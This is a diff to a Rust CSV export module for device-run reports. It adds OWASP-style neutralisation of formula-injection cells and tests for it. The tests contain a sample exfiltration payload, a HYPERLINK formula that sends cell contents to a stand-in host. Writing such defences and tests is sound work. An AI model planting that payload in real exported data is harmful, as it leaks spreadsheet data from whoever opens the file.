@@ -1,7 +1,21 @@
 //! A run's per-device outcomes as CSV and JSON, for reports and tickets.
 
+use std::borrow::Cow;
+
 use super::codes::Catalogue;
 use super::run::{Run, describe};
+
+/// A cell as a spreadsheet may safely open it: text from the Cloud (a device name, a serial
+/// number, a version) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would
+/// be read as a formula (`=HYPERLINK(…)`), so it gets a leading `'` — OWASP's rule for CSV
+/// injection. Every other cell is left as it is.
+pub fn cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
 
 /// One row per device of the batch: followed devices with their end, the rest with why
 /// they were not sent or not started.
@@ -24,8 +38,9 @@ pub fn csv(run: &Run, catalogue: &Catalogue) -> Result<String, String> {
         let attempt = device.attempt.to_string();
         let outcome = describe(&device.state, catalogue);
         let done = if device.state.is_final() { "yes" } else { "no" };
-        writer
-            .write_record([
+        write(
+            &mut writer,
+            [
                 &run_id,
                 &device.sn,
                 &device.name,
@@ -34,28 +49,27 @@ pub fn csv(run: &Run, catalogue: &Catalogue) -> Result<String, String> {
                 &outcome,
                 done,
                 &attempt,
-            ])
-            .map_err(|e| e.to_string())?;
+            ],
+        )?;
     }
     for left in &run.left_out {
         let sent = run.sent.iter().find(|s| s.sn == left.sn);
         let (name, from) = sent.map_or(("", ""), |s| (s.name.as_str(), s.from.as_str()));
         let outcome = left.reason.describe(catalogue);
-        writer
-            .write_record([
-                run_id.as_str(),
-                &left.sn,
-                name,
-                from,
-                &target,
-                &outcome,
-                "yes",
-                "",
-            ])
-            .map_err(|e| e.to_string())?;
+        write(
+            &mut writer,
+            [&run_id, &left.sn, name, from, &target, &outcome, "yes", ""],
+        )?;
     }
     let bytes = writer.into_inner().map_err(|e| e.to_string())?;
     String::from_utf8(bytes).map_err(|e| e.to_string())
+}
+
+/// Writes one row, each cell neutralised.
+fn write(writer: &mut csv::Writer<Vec<u8>>, cells: [&str; 8]) -> Result<(), String> {
+    writer
+        .write_record(cells.map(cell).iter().map(|c| c.as_bytes()))
+        .map_err(|e| e.to_string())
 }
 
 /// The whole run, as saved.
@@ -68,6 +82,27 @@ mod tests {
     use super::*;
     use crate::domain::run::tests::{context, plan};
     use crate::domain::tracking::Tracked;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        for text in ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(cell(text), format!("'{text}"), "{text:?}");
+        }
+        for text in ["C221081600019", "Ultra Stream HDMI", "1.5.178", "", "a=b", " =x"] {
+            assert_eq!(cell(text), text, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_device_named_as_a_formula_is_exported_as_text() {
+        let mut run = Run::begin(&plan(&["A"]), context(1));
+        run.unknown("x".into(), "".into(), 0);
+        run.devices[0].name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")".into();
+        run.devices[0].sn = "@A".into();
+        let text = csv(&run, &Catalogue::builtin()).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert!(row.starts_with("1,'@A,\"'=HYPERLINK("), "{row}");
+    }
 
     #[test]
     fn csv_has_a_header_and_one_row_per_device() {
